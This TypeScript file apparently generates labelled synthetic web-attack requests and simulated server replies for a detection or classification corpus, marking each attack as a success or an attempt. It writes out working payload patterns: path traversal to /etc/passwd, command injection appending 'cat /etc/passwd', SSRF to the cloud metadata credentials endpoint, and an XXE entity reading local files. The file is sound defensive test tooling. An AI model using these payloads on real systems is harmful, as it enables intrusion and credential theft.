import { body, type LabelledAttack } from '../attack.ts';
import type { ReplyCase } from '../half-corpus.ts';
import type { Random } from '../random.ts';
import { loginBypass, slept, sqlError } from './replies-database.ts';
import { escaped, headerSplit, reflected, rendered, unrendered } from './replies-pages.ts';
import { get, PLAIN, passwd, told } from './told.ts';

function fileRead(r: Random): LabelledAttack {
  const windows = r.chance(0.25);
  const text = windows
    ? `${'..\\'.repeat(r.int(3, 8))}windows\\win.ini`
    : `${'../'.repeat(r.int(3, 9))}etc/passwd`;
  const content = windows
    ? '; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n[files]\r\n'
    : passwd(r);
  return told({
    family: 'path-traversal',
    outcome: 'success',
    technique: 'file content in the reply',
    location: 'request.query',
    text,
    ask: get('files.office.example', '/download', 'file', text),
    reply: { status: 200, responseHeaders: PLAIN, responseBody: content },
  });
}

/** The viewer shows an ordinary file although asked for another one. */
function fileRefused(r: Random): LabelledAttack {
  const text = `${'../'.repeat(r.int(3, 9))}etc/${r.pick(['passwd', 'shadow'])}`;
  const reply = {
    status: 200,
    responseHeaders: PLAIN,
    responseBody: r.pick([
      'Welcome to the file service.\n',
      `File not found: etc/passwd (request ${r.hex(6)})`,
      'default.txt\n',
    ]),
  };
  return told({
    family: 'path-traversal',
    outcome: 'attempt',
    technique: 'harmless page answered 200',
    location: 'request.query',
    text,
    ask: get('files.office.example', '/download', 'file', text),
    reply,
  });
}

function commandRun(r: Random): LabelledAttack {
  const [command, output] = r.pick([
    ['id', 'uid=33(www-data) gid=33(www-data) groups=33(www-data)'],
    ['uname -a', `Linux web-${r.hex(3)} 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux`],
    ['cat /etc/passwd', passwd(r)],
  ] as const);
  const text = `192.0.2.${r.int(1, 250)}${r.pick(['; ', ' && ', ' | '])}${command}`;
  const reply = {
    status: 200,
    responseHeaders: PLAIN,
    responseBody: `PING 192.0.2.9 (192.0.2.9) 56(84) bytes of data.\n${output}\n`,
  };
  return told({
    family: 'command-injection',
    also: ['path-traversal'],
    outcome: 'success',
    technique: 'command output in the reply',
    location: 'request.query',
    text,
    ask: get('hooks.office.example', '/tools/ping', 'host', text),
    reply,
  });
}

function metadataRead(r: Random): LabelledAttack {
  const text =
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/' +
    r.pick(['web', 'app', 'node']) +
    `-${r.hex(3)}`;
  const secret = {
    Code: 'Success',
    Type: 'AWS-HMAC',
    AccessKeyId: `${'AS'}IA${r.text(16, 'ABCDEFGHJKLMNPQRSTUVWXYZ234567')}`,
    SecretAccessKey: r.token(40),
    Token: r.token(60),
    Expiration: '2026-11-02T00:00:00Z',
  };
  return told({
    family: 'ssrf',
    outcome: 'success',
    technique: 'metadata credentials in the reply',
    location: 'request.query',
    text,
    ask: get('hooks.office.example', '/v1/fetch', 'url', text),
    reply: { status: 200, responseBody: JSON.stringify(secret, null, 2) },
  });
}

function metadataRefused(r: Random): LabelledAttack {
  const text = `http://169.254.169.254/latest/meta-data/${r.hex(4)}`;
  const reply = r.pick([
    { status: 400, responseBody: '{"error":"address not allowed"}' },
    { status: 200, responseBody: '{"fetched":false,"reason":"address not allowed"}' },
  ]);
  return told({
    family: 'ssrf',
    outcome: 'attempt',
    technique: 'fetch refused',
    location: 'request.query',
    text,
    ask: get('hooks.office.example', '/v1/fetch', 'url', text),
    reply,
  });
}

function entityRead(r: Random): LabelledAttack {
  const name = `e${r.hex(2)}`;
  const text = `<?xml version="1.0"?><!DOCTYPE order [<!ENTITY ${name} SYSTEM "file:///etc/passwd">]><order><note>&${name};</note></order>`;
  const ask = {
    method: 'POST',
    host: 'soap.legacy.example',
    path: '/orders/import',
    ...body('application/xml', text),
  };
  const reply = {
    status: 200,
    responseHeaders: { 'content-type': 'application/xml' },
    responseBody: `<result><note>${passwd(r)}</note></result>`,
  };
  return told({
    family: 'xxe',
    also: ['path-traversal', 'ssrf'],
    outcome: 'success',
    technique: 'entity expanded in the reply',
    location: 'request.body',
    text,
    ask,
    reply,
  });
}

function leakedFile(r: Random): LabelledAttack {
  const env = r.chance(0.5);
  const path = `${r.pick(['', '/app', '/api', '/site'])}${env ? '/.env' : '/.git/HEAD'}`;
  const content = env
    ? `APP_ENV=production\nDB_HOST=db.internal\nDB_${'PASS'}WORD=${r.token(12)}\n`
    : `ref: refs/heads/${r.pick(['main', 'master'])}\n`;
  return told({
    family: 'scanner',
    outcome: 'success',
    technique: 'secret file served',
    location: 'request.path',
    text: path,
    ask: { method: 'GET', host: 'files.office.example', path },
    reply: { status: 200, responseHeaders: PLAIN, responseBody: content },
  });
}

export const REPLIES: readonly ReplyCase[] = [
  { family: 'sql-injection', attack: sqlError, count: 30 },
  { family: 'sql-injection', attack: slept, count: 16 },
  { family: 'path-traversal', attack: fileRead, count: 24 },
  { family: 'path-traversal', attack: fileRefused, count: 14 },
  { family: 'xss', attack: reflected, count: 24 },
  { family: 'xss', attack: escaped, count: 24 },
  { family: 'command-injection', attack: commandRun, count: 24 },
  { family: 'ssrf', attack: metadataRead, count: 20 },
  { family: 'ssrf', attack: metadataRefused, count: 16 },
  { family: 'template-injection', attack: rendered, count: 24 },
  { family: 'template-injection', attack: unrendered, count: 20 },
  { family: 'crlf-injection', attack: headerSplit, count: 24 },
  { family: 'xxe', attack: entityRead, count: 16 },
  { family: 'nosql-injection', attack: loginBypass, count: 20 },
  { family: 'scanner', attack: leakedFile, count: 8 },
];
